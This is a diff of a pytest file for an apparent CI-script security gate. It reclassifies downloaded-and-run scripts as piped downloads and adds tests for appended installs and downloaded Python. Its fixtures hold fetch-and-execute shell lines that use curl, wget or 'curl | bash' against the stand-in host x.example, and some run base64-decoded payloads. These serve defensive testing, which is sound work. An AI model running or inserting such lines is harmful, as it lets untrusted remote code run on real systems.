@@ -143,15 +143,12 @@ def test_written_python_is_analysed_not_failed_closed(tmp_path: Path, db: Path) 
 
 
 # -- 02. a script writes a file with text it computes, then runs it -------------------------
-# What a download or a command substitution wrote cannot be read: both checks fail closed,
-# as for a file whose name the shell computes. Expected: FAIL; actual before: PASS.
+# What a command's output or a command substitution wrote cannot be read: both checks fail
+# closed, as for a file whose name the shell computes. Expected: FAIL; actual before: PASS.
 COMPUTED = {
-    "curl": "curl -fsSL https://x.example/i.sh > gen.sh\nbash gen.sh\n",
     "substitution": 'echo "$(base64 -d < payload.txt)" > gen.sh\nsh gen.sh\n',
     "decoded": "base64 -d payload.txt > gen.sh\n. ./gen.sh\n",
     "unknown-append": "base64 -d payload.txt >> gen.sh\nbash gen.sh\n",
-    "curl-output": "curl -fsSLo gen.sh https://x.example/i.sh\nsh gen.sh\n",
-    "wget-output": "wget -qO gen.sh https://x.example/i.sh\n. ./gen.sh\n",
     "copied-computed": 'cp "$SRC" gen.sh\nbash gen.sh\n',
 }
 
@@ -162,6 +159,37 @@ def test_attack_computed_written_script_fails_closed(tmp_path: Path, db: Path, n
     assert controls[VULN] is ControlStatus.FAIL
     assert controls[CODE] is ControlStatus.FAIL
     assert "ci.sh" in doc["code"]["not_analysed"]
+
+
+# A download a shell runs is read as ``curl URL | bash`` is: not the project's (what the
+# installer script does is not read, nor failed: Miniconda's, rustup's, Docker's installers
+# are run so); what the script writes beside it is read; Python running a download is not
+# analysed (as ``curl URL | python``).
+DOWNLOADED = {
+    "redirect": "curl -fsSL https://x.example/i.sh > gen.sh\nbash gen.sh\n",
+    "curl-output": "curl -fsSLo gen.sh https://x.example/i.sh\nsh gen.sh\n",
+    "wget-output": "wget -qO gen.sh https://x.example/i.sh\n. ./gen.sh -b\n",
+    "pipe": "curl -fsSL https://x.example/i.sh | bash\n",
+}
+
+
+@pytest.mark.parametrize("name", sorted(DOWNLOADED))
+def test_downloaded_script_is_read_as_a_piped_download(tmp_path: Path, db: Path, name: str) -> None:
+    _, controls = _gate(tmp_path, db, {"ci.sh": "#!/bin/sh\n" + DOWNLOADED[name]})
+    assert controls[VULN] is ControlStatus.PASS
+    assert controls[CODE] is ControlStatus.PASS
+
+
+def test_attack_install_appended_to_a_download(tmp_path: Path, db: Path) -> None:
+    text = f"#!/bin/sh\ncurl -fsSL https://x.example/i.sh > gen.sh\necho '{INSTALL}' >> gen.sh\n"
+    _, controls = _gate(tmp_path, db, {"ci.sh": text + "bash gen.sh\n"})
+    assert controls[VULN] is ControlStatus.FAIL
+
+
+def test_attack_downloaded_python_fails_closed(tmp_path: Path, db: Path) -> None:
+    text = "#!/bin/sh\ncurl -fsSLo gen.py https://x.example/g.py\npython3 gen.py\n"
+    _, controls = _gate(tmp_path, db, {"ci.sh": text, "gen.py": "print('ok')\n"})
+    assert controls[CODE] is ControlStatus.FAIL
 
 
 def test_attack_computed_written_python_fails_closed(tmp_path: Path, db: Path) -> None:
